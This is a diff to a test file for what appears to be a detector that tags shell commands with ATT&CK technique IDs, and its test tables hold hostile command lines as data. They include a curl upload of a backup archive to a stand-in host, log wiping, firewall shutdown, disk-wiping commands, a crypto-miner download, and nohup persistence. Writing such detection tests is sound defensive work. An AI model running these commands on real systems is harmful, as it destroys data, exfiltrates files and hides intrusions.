@@ -79,7 +79,7 @@ describe('the technique of an event', () => {
     ],
     ['T1048', "curl -F 'data=@backup.tar.gz' http://a/upload"],
     ['T1021.004', 'ssh root@192.0.2.9', 'sshpass -p [redacted:8] ssh root@192.0.2.9'],
-    ['T1222.002', 'chmod 0777 /root/exp', 'chattr -i x'],
+    ['T1222.002', 'chmod 0777 /var/tmp/exp', 'chattr -i x'],
     ['T1070', 'rm -f /var/log/wtmp', 'history -c', '> /var/log/lastlog', 'rm -rf exp'],
     ['T1562', 'service iptables stop', '/etc/init.d/iptables stop', 'SuSEfirewall2 stop', 'iptables -F'],
     ['T1562', 'unset HISTFILE', 'export HISTFILE=/dev/null', 'systemctl disable firewalld'],
@@ -94,7 +94,15 @@ describe('the technique of an event', () => {
     ['T1529', 'reboot', 'echo c > /proc/sysrq-trigger'],
     ['T1485', 'rm -rf /', 'dd if=/dev/zero of=/dev/sda', 'mkfs.ext4 /dev/sdb'],
     ['T1496', './xmrig -o pool.com:3333 -u x', 'wget http://a/xmrig.tar.gz'],
-    ['T1059.004', 'cd /tmp', './tfhy', 'nohup /root/exp > /dev/null 2>&1 &', '', 'echo stop', 'crontab -l'],
+    [
+      'T1059.004',
+      'cd /tmp',
+      './tfhy',
+      'nohup /var/tmp/exp > /dev/null 2>&1 &',
+      '',
+      'echo stop',
+      'crontab -l',
+    ],
     ['T1059.004', 'echo "wget http://a/b"', 'true', '> ls', 'iptables -L'],
   ])('is %s of %s and its like', (id, ...lines) => {
     expect(lines.map((line) => `${line}: ${of(line)}`)).toEqual(lines.map((line) => `${line}: ${id}`));
